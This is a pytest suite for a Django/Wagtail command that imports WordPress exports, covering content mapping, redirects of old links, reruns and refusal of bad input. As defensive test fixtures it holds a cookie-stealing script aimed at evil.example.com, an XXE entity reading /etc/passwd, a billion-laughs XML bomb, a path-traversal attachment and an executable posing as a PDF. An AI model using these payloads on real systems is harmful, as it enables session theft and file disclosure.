"""import_wordpress: a WordPress export moved into the portal, its old links kept working.

On exports written as WordPress writes them (tests/support/wordpress_wxr.py), against
PostgreSQL and the SeaweedFS bucket, through the real command and the real test client.
"""

import datetime
from io import StringIO

from django.core.management import CommandError, call_command

from wagtail.contrib.redirects.models import Redirect
from wagtail.documents import get_document_model
from wagtail.images import get_image_model
from wagtail.models import Page, PageLogEntry, WorkflowState

import pytest
from bs4 import BeautifulSoup
from PIL import ExifTags
from PIL import Image as PILImage

from blog.models import BlogCategory, BlogPage, Person, WordPressImport
from blog.wordpress.importer import WordPressImporter
from home.models import StandardPage
from tests.support.factories import BlogCategoryFactory, BlogIndexPageFactory, make_site_home
from tests.support.media_files import PDF, photo_with_location
from tests.support.wordpress_wxr import SITE, Item, attachment, wxr

GUTENBERG_POST = """<!-- wp:paragraph -->
<p>Forty members met at the library &amp; agreed the &#8220;People before profit&#8221; plan 💪.</p>
<!-- /wp:paragraph -->

<!-- wp:image {"id":45,"sizeSlug":"large"} -->
<figure class="wp-block-image size-large"><img src="https://oldsite.example.org/wp-content/uploads/2019/05/stall-1024x768.jpg" alt="Members at the stall" class="wp-image-45"/><figcaption>Our stall on the high street</figcaption></figure>
<!-- /wp:image -->

<!-- wp:heading {"level":3} -->
<h3>What we agreed</h3>
<!-- /wp:heading -->

<!-- wp:list -->
<ul><li>Leaflets every Saturday</li><li>A <a href="https://oldsite.example.org/2018/11/02/first-meeting/">second meeting</a> in June</li></ul>
<!-- /wp:list -->

<!-- wp:quote -->
<blockquote class="wp-block-quote"><p>They cannot suspend a community.</p><cite>The convenor</cite></blockquote>
<!-- /wp:quote -->

<!-- wp:embed {"url":"https://www.youtube.com/watch?v=dQw4w9WgXcQ","type":"video","providerNameSlug":"youtube"} -->
<figure class="wp-block-embed is-type-video is-provider-youtube"><div class="wp-block-embed__wrapper">
https://www.youtube.com/watch?v=dQw4w9WgXcQ
</div></figure>
<!-- /wp:embed -->

<!-- wp:html -->
<script>document.location='https://evil.example.com/?c='+document.cookie</script>
<p onclick="steal()">Read the <a href="https://oldsite.example.org/wp-content/uploads/2019/05/minutes.pdf">minutes</a>.</p>
<iframe src="https://tracker.example.com/pixel"></iframe>
<!-- /wp:html -->

<!-- wp:shortcode -->
[contact-form-7 id="12" title="Get in touch"]
<!-- /wp:shortcode -->
"""  # noqa: E501 (markup as WordPress writes it, one block a line)

CLASSIC_POST = """Ελληνικά, русский, Cymraeg: “quotes” — and emoji 🌹 in the classic editor.
A second line of the same paragraph.

[caption id="attachment_45" align="aligncenter" width="300"]<img class="size-medium wp-image-45" src="https://oldsite.example.org/wp-content/uploads/2019/05/stall-300x200.jpg" alt="" /> The stall again[/caption]

https://vimeo.com/76979871

<iframe src="https://www.youtube.com/embed/M7lc1UVf-VE" width="560" height="315"></iframe>"""  # noqa: E501


def campaign_export(**changes):
    posts = {
        "gutenberg": Item(
            wp_id=123,
            title="Newham members meet & plan",
            slug="newham-members-meet",
            content=GUTENBERG_POST,
            excerpt="Forty members met and agreed a plan.",
            categories=(("campaigns", "Campaigns"), ("uncategorized", "Uncategorized")),
            tags=(("leaflets", "Leaflets"), ("newham", "Newham")),
            meta={"_thumbnail_id": 45},
            comments=3,
        ),
        "classic": Item(
            wp_id=124,
            title="Ολοι μαζί: a classic post",
            slug="%ce%bf%ce%bb%ce%bf%ce%b9-%ce%bc%ce%b1%ce%b6%ce%af",
            date="2018-11-02 09:00:00",
            date_gmt="2018-11-02 09:00:00",
            content=CLASSIC_POST,
            creator="admin",
            categories=(("local-groups", "Local groups"),),
        ),
        "draft": Item(wp_id=125, title="Unfinished thoughts", slug="", status="draft"),
        "private": Item(wp_id=126, title="Committee only", slug="committee", status="private"),
        "about": Item(
            wp_id=10,
            title="About us",
            slug="about-us",
            post_type="page",
            content="<p>Who we are.</p>",
        ),
        "history": Item(
            wp_id=11,
            title="Our history",
            slug="history",
            post_type="page",
            parent=10,
            content="Founded in 2017.\n\nStill here.",
            link=f"{SITE}/about-us/history/",
        ),
        "photo": attachment(45, "2019/05/stall.jpg", title="The stall", alt="Stall", parent=123),
        "minutes": attachment(46, "2019/05/minutes.pdf", title="Minutes of May", parent=123),
        "menu": Item(wp_id=900, title="Menu", post_type="nav_menu_item"),
    }
    posts.update(changes)
    return wxr(
        [item for item in posts.values() if item is not None],
        categories=(("campaigns", "Campaigns", ""), ("local-groups", "Local groups", "campaigns")),
        tags=(("leaflets", "Leaflets"), ("newham", "Newham")),
    )


@pytest.fixture
def news(db):
    home = make_site_home()
    return home, BlogIndexPageFactory(parent=home)


@pytest.fixture
def media_dir(tmp_path):
    uploads = tmp_path / "uploads"
    (uploads / "2019" / "05").mkdir(parents=True)
    (uploads / "2019" / "05" / "stall.jpg").write_bytes(photo_with_location())
    (uploads / "2019" / "05" / "minutes.pdf").write_bytes(PDF)
    return uploads


def run_import(tmp_path, export, *options):
    path = tmp_path / "export.xml"
    path.write_bytes(export)
    out = StringIO()
    call_command("import_wordpress", str(path), *options, stdout=out)
    return out.getvalue()


def bucket_keys(s3):
    listing = s3.client().list_objects_v2(Bucket=s3.bucket)
    return {item["Key"] for item in listing.get("Contents", [])}


def stored_counts():
    return {
        "posts": BlogPage.objects.count(),
        "pages": StandardPage.objects.count(),
        "images": get_image_model().objects.count(),
        "documents": get_document_model().objects.count(),
        "redirects": Redirect.objects.count(),
        "records": WordPressImport.objects.count(),
        "people": Person.objects.count(),
        "categories": BlogCategory.objects.count(),
    }


# ------------------------------------------------------------------------- mapping


def test_posts_pages_and_media_arrive_with_their_fields(news, tmp_path, media_dir):
    home, index_page = news
    existing_category = BlogCategoryFactory(name="Campaigns", slug="campaigns")
    report = run_import(tmp_path, campaign_export(), "--media-dir", str(media_dir))

    post = BlogPage.objects.get(title="Newham members meet & plan")
    assert post.get_parent().pk == index_page.pk
    assert post.live
    assert post.slug == "newham-members-meet"
    assert post.date == datetime.date(2019, 5, 3)
    assert post.first_published_at == datetime.datetime(2019, 5, 3, 13, 2, 11, tzinfo=datetime.UTC)
    assert post.intro == "Forty members met and agreed a plan."
    assert [person.name for person in post.authors.all()] == ["Jo Bloggs"]
    assert not post.by_editorial_group
    assert list(post.categories.all()) == [existing_category]  # reused, "Uncategorized" left out
    assert sorted(tag.name for tag in post.tags.all()) == ["Leaflets", "Newham"]
    assert post.featured_image.title == "The stall"
    assert [block.block_type for block in post.body] == [
        "paragraph",
        "image",
        "heading",
        "paragraph",
        "quote",
        "video",
        "paragraph",
    ]

    classic = BlogPage.objects.get(title="Ολοι μαζί: a classic post")
    assert classic.by_editorial_group
    assert not classic.authors.exists()
    assert classic.slug == "a-classic-post"  # from the title: the slug has no Latin letters
    assert [c.slug for c in classic.categories.all()] == ["local-groups"]
    assert classic.intro.startswith("Ελληνικά, русский, Cymraeg: “quotes” — and emoji 🌹")
    assert [block.block_type for block in classic.body] == ["paragraph", "image", "video", "video"]
    assert classic.body[1].value["caption"] == "The stall again"
    assert [classic.body[2].value.url, classic.body[3].value.url] == [
        "https://vimeo.com/76979871",
        "https://www.youtube.com/watch?v=M7lc1UVf-VE",
    ]

    draft = BlogPage.objects.get(title="Unfinished thoughts")
    assert not draft.live
    assert draft.first_published_at is None
    assert not BlogPage.objects.filter(title="Committee only").exists()

    about = StandardPage.objects.get(title="About us")
    history = StandardPage.objects.get(title="Our history")
    assert about.get_parent().pk == home.pk
    assert about.live
    assert history.get_parent().pk == about.pk
    assert [block.block_type for block in history.body] == ["paragraph"]
    assert history.body[0].value.source == "<p>Founded in 2017.</p><p>Still here.</p>"

    image = get_image_model().objects.get(title="The stall")
    with image.file.open("rb") as stored, PILImage.open(stored) as photo:
        assert ExifTags.IFD.GPSInfo not in photo.getexif(), "the location reached the bucket"
    assert image.description == "Stall"
    document = get_document_model().objects.get(title="Minutes of May")
    assert document.file.read().startswith(b"%PDF-")
    assert f'<a linktype="document" id="{document.pk}">minutes</a>' in post.body[6].value.source

    assert "posts: 3 created, 0 updated, 0 unchanged" in report
    assert "pages: 2 created" in report
    assert "media: 2 created" in report
    assert "Comments left out (not imported): 3" in report
    assert "nav_menu_item (1)" in report
    assert "post 126 “Committee only”: private on WordPress" in report
    assert "<script> " not in report
    assert "<script>" in report
    assert "onclick attribute" in report
    assert "<iframe> from tracker.example.com" in report
    assert "contact-form-7" in report
    assert "jo@example.net" not in report
    assert "reader@example.net" not in report


def test_imported_pages_are_sound_wagtail_pages_editors_can_open(admin_client, news, tmp_path):
    run_import(tmp_path, campaign_export())
    assert not any(Page.find_problems()), "the page tree is inconsistent"
    post = BlogPage.objects.get(title="Newham members meet & plan")
    history = StandardPage.objects.get(title="Our history")
    for page in (post, history):
        assert page.live_revision == page.latest_revision
        assert not page.has_unpublished_changes
        assert admin_client.get(f"/admin/pages/{page.pk}/edit/").status_code == 200
        assert PageLogEntry.objects.filter(page=page, action="wagtail.publish").exists()
    index_page = post.get_parent()
    assert index_page.numchild == index_page.get_children().count()
    # What the editor's form loads is the revision: it has the same relations as the page.
    draft = post.get_latest_revision_as_object()
    assert sorted(tag.name for tag in draft.tags.all()) == ["Leaflets", "Newham"]
    assert [c.slug for c in draft.categories.all()] == ["campaigns"]
    assert [person.name for person in draft.authors.all()] == ["Jo Bloggs"]
    assert draft.body.raw_data == post.body.raw_data
    assert post.latest_revision.content.keys() == post.serializable_data().keys()


def test_a_failure_part_way_leaves_no_page_and_no_file(news, tmp_path, media_dir, media_on_s3):
    before, keys_before = stored_counts(), bucket_keys(media_on_s3)

    def redirects_fail(importer):
        raise RuntimeError("the database went away")

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(WordPressImporter, "import_redirects", redirects_fail)
        with pytest.raises(RuntimeError):
            run_import(tmp_path, campaign_export(), "--media-dir", str(media_dir))
    assert stored_counts() == before
    assert bucket_keys(media_on_s3) == keys_before, "uploaded files left behind"


def test_an_email_address_is_never_published_as_an_authors_name(news, tmp_path):
    authors = (("jo@example.net", "jo@example.net", "jo@example.net"),)
    post = Item(wp_id=1, title="A post", slug="a-post", creator="jo@example.net")
    path = tmp_path / "export.xml"
    path.write_bytes(wxr([post], authors=authors))
    call_command("import_wordpress", str(path), stdout=StringIO())
    imported = BlogPage.objects.get(title="A post")
    assert imported.by_editorial_group
    assert not Person.objects.filter(name__contains="@").exists()


def test_an_imported_post_reads_as_it_did_on_wordpress(
    client, news, tmp_path, media_dir, oembed_provider
):
    run_import(tmp_path, campaign_export(), "--media-dir", str(media_dir))
    post = BlogPage.objects.get(title="Newham members meet & plan")

    response = client.get(post.url)
    assert response.status_code == 200
    html = response.content.decode()
    soup = BeautifulSoup(html, "html.parser")
    article = soup.find("main") or soup
    text = " ".join(article.get_text(" ").split())
    assert "Newham members meet & plan" in soup.h1.get_text()
    assert "met at the library & agreed the “People before profit” plan 💪." in text
    assert "They cannot suspend a community." in soup.blockquote.get_text()
    assert soup.blockquote.parent.figcaption.get_text(strip=True) == "The convenor"
    assert soup.find("h3", string="What we agreed") is not None
    figure = soup.find("figcaption", string="Our stall on the high street").parent
    assert figure.img["alt"] == "Members at the stall"
    watch = soup.find("a", href="https://www.youtube.com/watch?v=dQw4w9WgXcQ")
    assert watch is not None, "the video is offered as a link to watch"
    second_meeting = soup.find("a", string="second meeting")
    assert second_meeting["href"] == "/2018/11/02/first-meeting/"
    assert "evil.example.com" not in html
    assert "steal()" not in html
    assert "tracker.example.com" not in html
    assert "[contact-form-7" in text, "an unknown shortcode stays visible for an editor to fix"
    minutes = soup.find("a", string="minutes")
    assert minutes["href"].startswith("/documents/")


# ------------------------------------------------------------------------- old links


def test_every_old_link_lands_on_the_new_page(client, news, tmp_path, media_dir):
    run_import(tmp_path, campaign_export(), "--media-dir", str(media_dir))
    post = BlogPage.objects.get(title="Newham members meet & plan")
    classic = BlogPage.objects.get(title="Ολοι μαζί: a classic post")
    history = StandardPage.objects.get(title="Our history")
    about = StandardPage.objects.get(title="About us")
    expected = {
        "/2019/05/03/newham-members-meet/": post.url,
        "/2019/05/newham-members-meet/": post.url,
        "/archives/123/": post.url,
        "/?p=123": post.url,
        "/?page_id=11": history.url,
        "/about-us/": about.url,
        "/about-us/history/": history.url,  # the same address on the portal
        # WordPress writes non-Latin slugs percent-encoded; browsers send them so too.
        "/2018/11/02/%CE%BF%CE%BB%CE%BF%CE%B9-%CE%BC%CE%B1%CE%B6%CE%AF/": classic.url,
        "/category/campaigns/": "/blog/category/campaigns/",
        "/category/campaigns/local-groups/": "/blog/category/local-groups/",
        "/category/uncategorized/": "/blog/",
        "/category/campaigns/feed/": "/blog/category/campaigns/feed/",
        "/tag/leaflets/": "/blog/tag/leaflets/",
        "/author/jo/": "/blog/",
        "/feed/": "/blog/feed/",
        "/?feed=rss2": "/blog/feed/",
        "/?attachment_id=45": post.url,
        "/wp-content/uploads/2019/05/minutes.pdf": get_document_model()
        .objects.get(title="Minutes of May")
        .url,
    }
    assert (about.url, history.url) == ("/about-us/", "/about-us/history/")
    for old, new in expected.items():
        response = client.get(old)
        if old == new:
            assert response.status_code == 200, "the page kept its address: no redirect needed"
            continue
        assert response.status_code == 301, old
        assert response["Location"] == new, old
        # A document is served by a redirect to its signed address in the bucket.
        assert client.get(new).status_code == (302 if new.startswith("/documents/") else 200)
    assert client.get("/?p=999").status_code == 200, "an unknown id shows the home page"
    assert client.get("/2019/05/03/never-existed/").status_code == 404


# ------------------------------------------------------------------------- repeat runs


def test_running_again_duplicates_nothing_and_updates_what_changed(news, tmp_path, media_dir):
    run_import(tmp_path, campaign_export(), "--media-dir", str(media_dir))
    first = stored_counts()
    post = BlogPage.objects.get(title="Newham members meet & plan")

    report = run_import(tmp_path, campaign_export(), "--media-dir", str(media_dir))
    assert stored_counts() == first
    assert "posts: 0 created, 0 updated, 3 unchanged" in report
    assert "media: 0 created, 0 updated, 2 unchanged" in report
    assert "redirects: 0 created, 0 updated" in report

    renamed = Item(
        wp_id=123,
        title="Newham members meet and plan",
        slug="newham-members-meet",
        content="<p>Corrected text.</p>",
        excerpt="Forty members met.",
    )
    report = run_import(tmp_path, campaign_export(gutenberg=renamed), "--media-dir", str(media_dir))
    assert stored_counts() == first
    assert "posts: 0 created, 1 updated, 2 unchanged" in report
    post.refresh_from_db()
    assert post.title == "Newham members meet and plan"
    assert post.live
    assert post.body[0].value.source == "<p>Corrected text.</p>"
    assert post.first_published_at.date() == datetime.date(2019, 5, 3)

    # An editor improves the post on the portal: the next import leaves it alone.
    post.intro = "Edited by the press group."
    post.save_revision().publish()
    changed_again = Item(wp_id=123, title="Changed on WordPress", slug="newham-members-meet")
    report = run_import(
        tmp_path, campaign_export(gutenberg=changed_again), "--media-dir", str(media_dir)
    )
    post.refresh_from_db()
    assert post.intro == "Edited by the press group."
    assert post.title != "Changed on WordPress"
    assert "changed on the portal since the last import" in report


def test_what_editors_deleted_after_an_import_is_not_made_again(news, tmp_path, media_dir):
    run_import(tmp_path, campaign_export(), "--media-dir", str(media_dir))
    BlogPage.objects.get(title="Newham members meet & plan").delete()
    get_image_model().objects.get(title="The stall").delete()
    Redirect.objects.filter(old_path="/tag/leaflets").delete()

    report = run_import(tmp_path, campaign_export(), "--media-dir", str(media_dir))
    assert not BlogPage.objects.filter(title="Newham members meet & plan").exists()
    assert not get_image_model().objects.exists()
    assert not Redirect.objects.filter(old_path="/tag/leaflets").exists()
    assert "post 123 “Newham members meet & plan”: deleted on the portal" in report
    assert "attachment 45 “The stall”: deleted on the portal" in report


def test_draft_leaves_the_posts_waiting_for_a_moderator(news, tmp_path, media_dir):
    report = run_import(tmp_path, campaign_export(), "--draft", "--media-dir", str(media_dir))
    post = BlogPage.objects.get(title="Newham members meet & plan")
    about = StandardPage.objects.get(title="About us")
    for page in (post, about):
        assert not page.live
        state = WorkflowState.objects.get(
            base_content_type=page.get_base_content_type(), object_id=str(page.pk)
        )
        assert state.status == WorkflowState.STATUS_IN_PROGRESS
    assert "submitted to moderation" in report


def test_dry_run_reports_and_writes_nothing(news, tmp_path, media_dir, media_on_s3):
    before = stored_counts()
    objects_before = bucket_keys(media_on_s3)
    report = run_import(tmp_path, campaign_export(), "--dry-run", "--media-dir", str(media_dir))
    assert stored_counts() == before
    assert report.startswith("DRY RUN: nothing was written.")
    assert "posts: 3 created" in report
    assert "media: 2 created" in report
    assert bucket_keys(media_on_s3) == objects_before


def test_an_export_of_posts_only_takes_the_pictures_from_the_media_folder(
    news, tmp_path, media_dir
):
    # WordPress's "Posts" export has no attachments: the links in the posts are enough.
    (media_dir / "2019" / "05" / "stall-300x200.jpg").write_bytes(photo_with_location((30, 20)))
    post = Item(
        wp_id=1,
        title="Posts only",
        slug="posts-only",
        content=f'<img src="{SITE}/wp-content/uploads/2019/05/stall-300x200.jpg" alt="Stall">',
    )
    export = wxr([post])
    for _run in range(2):
        report = run_import(tmp_path, export, "--media-dir", str(media_dir))
    image = get_image_model().objects.get()
    assert (image.width, image.height) == (64, 48), "the original, not the resized copy"
    body = BlogPage.objects.get(title="Posts only").body
    assert body[0].value["image"].pk == image.pk
    assert "media: 0 created, 0 updated, 1 unchanged" in report


def test_without_media_dir_the_files_are_listed_as_not_imported(news, tmp_path):
    report = run_import(tmp_path, campaign_export())
    assert "Media not imported" in report
    assert f"{SITE}/wp-content/uploads/2019/05/stall.jpg" in report
    assert not get_image_model().objects.exists()
    post = BlogPage.objects.get(title="Newham members meet & plan")
    assert "image" not in [block.block_type for block in post.body]
    assert "Media not found" in report


# ------------------------------------------------------------------------- bad input

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<rss version="2.0" xmlns:wp="http://wordpress.org/export/1.2/"><channel>
<wp:wxr_version>1.2</wp:wxr_version><item><title>&secret;</title><wp:post_id>1</wp:post_id>
<wp:post_type>post</wp:post_type></item></channel></rss>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>
<rss xmlns:wp="http://wordpress.org/export/1.2/"><channel><title>&lol4;</title></channel></rss>"""


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (XXE, "declares a document type"),
        (BILLION_LAUGHS, "declares a document type"),
        (b"<rss><channel><item>", "not well-formed XML"),
        (b"\x00\x01binary", "not well-formed XML"),
        (b'<rss version="2.0"><channel><title>A feed</title></channel></rss>', "not a WordPress"),
        # A declaration pushed past the first 64 KB by a long comment is found all the same.
        (b"<!--" + b" " * 70_000 + b"-->" + BILLION_LAUGHS.split(b"?>", 1)[1], "document type"),
        (b"<html><body>Not an export</body></html>", "not a WordPress export"),
    ],
)
def test_malformed_or_hostile_files_are_refused_and_change_nothing(
    news, tmp_path, content, message
):
    before = stored_counts()
    with pytest.raises(CommandError, match=message):
        run_import(tmp_path, content)
    assert stored_counts() == before


def test_content_too_deeply_nested_to_read_leaves_that_post_out_and_says_so(news, tmp_path):
    nested = Item(wp_id=130, title="Pasted from Word", slug="pasted", content="<div>" * 5000 + "x")
    report = run_import(tmp_path, campaign_export(nested=nested))
    assert not BlogPage.objects.filter(title="Pasted from Word").exists()
    assert BlogPage.objects.filter(title="Newham members meet & plan").exists()
    assert "post 130 “Pasted from Word”: its content could not be read as HTML" in report


def test_a_blog_that_lived_in_a_folder_keeps_its_addresses(client, news, tmp_path):
    folder = "https://oldsite.example.org/news"
    post = Item(wp_id=5, title="In a folder", slug="in-a-folder")
    export = wxr([post], site=folder).replace(
        b"<wp:base_site_url>https://oldsite.example.org/news<",
        b"<wp:base_site_url>https://oldsite.example.org<",
    )
    run_import(tmp_path, export)
    new = BlogPage.objects.get(title="In a folder").url
    for old in ("/news/2019/05/03/in-a-folder/", "/news/?p=5", "/news/feed/"):
        response = client.get(old)
        assert response.status_code == 301, old
        assert response["Location"] == ("/blog/feed/" if "feed" in old else new)


def test_an_older_wxr_version_is_read_too(news, tmp_path):
    older = (
        campaign_export()
        .replace(b"export/1.2/", b"export/1.1/")
        .replace(b"<wp:wxr_version>1.2<", b"<wp:wxr_version>1.1<")
    )
    run_import(tmp_path, older)
    assert BlogPage.objects.get(title="Newham members meet & plan").intro == (
        "Forty members met and agreed a plan."
    )


def test_an_attachment_path_outside_the_media_folder_is_not_read(news, tmp_path, media_dir):
    (tmp_path / "secret.txt").write_text("root:x:0:0")
    escaping = attachment(47, "../secret.txt", title="Sneaky")
    report = run_import(tmp_path, campaign_export(sneaky=escaping), "--media-dir", str(media_dir))
    assert not get_document_model().objects.filter(title="Sneaky").exists()
    assert "attachment 47 “Sneaky”: file not found in the media folder" in report


def test_an_upload_the_admin_would_refuse_is_refused_here_too(news, tmp_path, media_dir):
    (media_dir / "2019" / "05" / "fake.pdf").write_bytes(b"MZ\x90\x00 a Windows program")
    fake = attachment(48, "2019/05/fake.pdf", title="Fake minutes")
    report = run_import(tmp_path, campaign_export(fake=fake), "--media-dir", str(media_dir))
    assert not get_document_model().objects.filter(title="Fake minutes").exists()
    assert "attachment 48 “Fake minutes”: This file is not a real .pdf document" in report


def test_a_page_whose_address_the_portal_uses_gets_another_and_says_so(client, news, tmp_path):
    clash = Item(wp_id=12, title="Our blog", slug="blog", post_type="page", content="Hello")
    report = run_import(tmp_path, campaign_export(clash=clash))
    page = StandardPage.objects.get(title="Our blog")
    assert page.slug == "blog-12"
    assert "“Our blog”: address already used here: given the slug blog-12" in report
    assert client.get("/?page_id=12")["Location"] == "/blog-12/"


def test_no_news_index_is_a_clear_refusal(db, tmp_path):
    make_site_home()
    with pytest.raises(CommandError, match="There is no news index"):
        run_import(tmp_path, campaign_export())
    assert not BlogPage.objects.exists()
